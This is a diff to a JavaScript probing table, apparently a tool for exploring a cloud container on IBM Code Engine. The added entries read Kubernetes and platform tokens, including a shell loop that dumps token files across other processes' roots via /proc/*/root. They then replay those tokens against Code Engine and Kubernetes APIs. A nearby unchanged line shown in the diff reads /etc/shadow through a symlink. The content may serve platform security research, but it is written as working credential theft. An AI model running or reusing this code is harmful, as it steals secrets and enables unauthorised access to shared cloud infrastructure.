@@ -102,6 +102,11 @@ const WAYS = ({ home, pid, api, ports }) => ({
   'the code of the app': () => open('/app/server.js'),
   'the hosts file': () => open('/etc/hosts'),
   'the token': () => open('/run/secrets/codeengine.cloud.ibm.com/compute-resource-token/token'),
+  'the token of its service account': () => open('/run/secrets/kubernetes.io/serviceaccount/token'),
+  'tokens of service accounts': () =>
+    shell(
+      'for f in /run/secrets/*/*/token /proc/*/root/run/secrets/*/*/token /.e/i/*/*/token /proc/*/root/.e/i/*/*/token; do cat $f 2>/dev/null && echo; done',
+    ),
   'the trust': () => open(process.env.NODE_EXTRA_CA_CERTS),
   'programs of the machine': () =>
     shell(
@@ -125,6 +130,10 @@ const WAYS = ({ home, pid, api, ports }) => ({
   'the API without a token': () => ask(api, '/codeengine/v2/projects', {}),
   'the API with its own token as it is': () =>
     ask(api, '/codeengine/v2/projects', { authorization: `Bearer ${read('/run/secrets/codeengine.cloud.ibm.com/compute-resource-token/token')}` }),
+  'the API with its service account': () =>
+    ask(api, '/codeengine/v2/projects', { authorization: `Bearer ${read('/run/secrets/kubernetes.io/serviceaccount/token')}` }),
+  'the API of Kubernetes with the other token': () =>
+    ask(api, '/kubernetes/apis', { authorization: `Bearer ${read('/run/secrets/codeengine.cloud.ibm.com/compute-resource-token/token')}` }),
   'the link by the API port': () => ask(api, '/link', { connection: 'upgrade', upgrade: 'everleaf-link' }),
   'the inside of links': () => shell('ln -s / /tmp/root; ls /tmp/root/.e /tmp/root/root /tmp/root/work 2>&1; cat /tmp/root/etc/shadow'),
   'the root by an open folder': () => {
